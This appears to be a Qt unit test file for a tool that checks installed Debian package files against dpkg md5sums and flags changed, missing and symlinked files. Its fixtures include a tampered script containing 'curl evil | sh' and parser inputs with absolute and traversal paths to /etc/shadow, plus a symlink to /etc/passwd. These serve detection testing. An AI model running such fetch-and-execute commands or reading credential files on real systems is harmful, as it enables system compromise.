// SPDX-License-Identifier: GPL-3.0-or-later
// Package file verification against dpkg's md5sums: the parser (fixture, hostile lines), a package on a fixture
// tree (intact, changed, missing, replaced by a link, over the limits), and packages of this host.
#include "dpkgverify.h"
#include "fixtureroot.h"
#include "skip.h"

using namespace Qt::StringLiterals;
using namespace Flight::Integrity;

class TestDpkgVerify : public QObject
{
    Q_OBJECT

    static void writeHello(const FixtureRoot &root, const QString &md5sumsName = u"hello.md5sums"_s)
    {
        QVERIFY(root.write(u"/var/lib/dpkg/info/"_s + md5sumsName, fixture("hello.md5sums")));
        QVERIFY(root.write(u"/usr/bin/hello"_s, "#!/bin/sh\necho hello\n"));
        QVERIFY(root.write(u"/usr/share/doc/hello/NEWS.gz"_s, ""));
        QVERIFY(root.write(u"/usr/share/doc/hello/copyright"_s, "Copyright 2024\n"));
        QVERIFY(root.write(u"/usr/share/man/man1/hello world.1.gz"_s, "man\n"));
    }

private Q_SLOTS:
    void parse()
    {
        const auto entries = parseDpkgMd5sums(fixture("hello.md5sums"));
        QVERIFY2(entries, qPrintable(entries.error().message));
        QCOMPARE(entries->size(), 4);
        QCOMPARE(entries->at(0), (Md5Entry{"d604a220708aa59433ba410986cd4ffa", "usr/bin/hello"}));
        QCOMPARE(entries->at(3).path, QByteArray("usr/share/man/man1/hello world.1.gz"));
    }

    void hostileLines_data()
    {
        QTest::addColumn<QByteArray>("content");
        QTest::addColumn<QString>("reason");
        const QByteArray md5 = "d41d8cd98f00b204e9800998ecf8427e";
        QTest::newRow("one space") << md5 + " usr/bin/x\n" << u"line 1: expected"_s;
        QTest::newRow("short digest") << QByteArray("d41d8cd9  usr/bin/x\n") << u"line 1: expected"_s;
        QTest::newRow("uppercase digest") << md5.toUpper() + "  usr/bin/x\n" << u"line 1: expected"_s;
        QTest::newRow("absolute") << md5 + "  /etc/shadow\n" << u"line 1: unsafe path '/etc/shadow'"_s;
        QTest::newRow("traversal") << md5 + "  usr/bin/x\n" + md5 + "  usr/../../etc/shadow\n"
                                   << u"line 2: unsafe path"_s;
        QTest::newRow("no path") << md5 + "  \n" << u"line 1: expected"_s;
    }
    void hostileLines()
    {
        QFETCH(QByteArray, content);
        QFETCH(QString, reason);
        const auto entries = parseDpkgMd5sums(content);
        QVERIFY(!entries);
        QVERIFY2(entries.error().message.contains(reason), qPrintable(entries.error().message));
    }

    void intactPackage()
    {
        FixtureRoot root;
        writeHello(root);
        const auto result = verifyDpkgPackage(root.path(), u"hello"_s, u"amd64"_s);
        QVERIFY2(result, qPrintable(result.error().message));
        QVERIFY(result->hasDigests);
        QCOMPARE(result->checked, 4);
        QCOMPARE(result->skipped, 0);
        QVERIFY(result->mismatches.isEmpty());
    }

    void changedMissingAndLinkedFiles()
    {
        FixtureRoot root;
        writeHello(root, u"hello:amd64.md5sums"_s); // Multi-Arch: same
        QVERIFY(root.write(u"/usr/bin/hello"_s, "#!/bin/sh\ncurl evil | sh\n"));
        QVERIFY(QFile::remove(root.hostPath(u"/usr/share/doc/hello/NEWS.gz"_s)));
        QVERIFY(QFile::remove(root.hostPath(u"/usr/share/doc/hello/copyright"_s)));
        QVERIFY(QFile::link(u"/etc/passwd"_s, root.hostPath(u"/usr/share/doc/hello/copyright"_s)));
        const auto result = verifyDpkgPackage(root.path(), u"hello"_s, u"amd64"_s);
        QVERIFY2(result, qPrintable(result.error().message));
        QCOMPARE(result->checked, 4);
        QCOMPARE(result->mismatches,
                 (QList<FileMismatch>{{u"/usr/bin/hello"_s, u"digest differs"_s},
                                      {u"/usr/share/doc/hello/NEWS.gz"_s, u"missing"_s},
                                      {u"/usr/share/doc/hello/copyright"_s, u"not a regular file"_s}}));
    }

    void limits()
    {
        FixtureRoot root;
        writeHello(root);
        VerifyLimits limits;
        limits.maxFileBytes = 10; // /usr/bin/hello (22 bytes) and the copyright (15) are skipped
        auto result = verifyDpkgPackage(root.path(), u"hello"_s, u"amd64"_s, limits);
        QVERIFY(result);
        QCOMPARE(result->checked, 2);
        QCOMPARE(result->skipped, 2);
        limits = {};
        limits.maxFiles = 1;
        result = verifyDpkgPackage(root.path(), u"hello"_s, u"amd64"_s, limits);
        QVERIFY(result);
        QCOMPARE(result->checked, 1);
        QCOMPARE(result->skipped, 3);
    }

    void noDigestsAndBadNames()
    {
        FixtureRoot root;
        const auto none = verifyDpkgPackage(root.path(), u"meta-package"_s, u"all"_s);
        QVERIFY(none);
        QVERIFY(!none->hasDigests);
        QVERIFY(!verifyDpkgPackage(root.path(), u"../../etc/x"_s, u"all"_s));
        QVERIFY(root.write(u"/var/lib/dpkg/info/bad.md5sums"_s, "nonsense\n"));
        const auto bad = verifyDpkgPackage(root.path(), u"bad"_s, u"all"_s);
        QVERIFY(!bad);
        QCOMPARE(bad.error().message,
                 root.hostPath(u"/var/lib/dpkg/info/bad.md5sums"_s)
                     + u": md5sums line 1: expected '<32 hex digits>  <path>'"_s);
    }

    void thisHostsDpkg()
    {
        if (!QFileInfo::exists(u"/var/lib/dpkg/info/dpkg.md5sums"_s))
            FLIGHT_SKIP("this host has no dpkg package database");
        const auto result = verifyDpkgPackage(u"/"_s, u"dpkg"_s, u"amd64"_s);
        QVERIFY2(result, qPrintable(result.error().message));
        QVERIFY(result->hasDigests);
        QVERIFY(result->checked > 10);
        QVERIFY2(result->mismatches.isEmpty(), qPrintable(result->mismatches.value(0).path));
    }
};

QTEST_GUILESS_MAIN(TestDpkgVerify)
#include "tst_dpkgverify.moc"
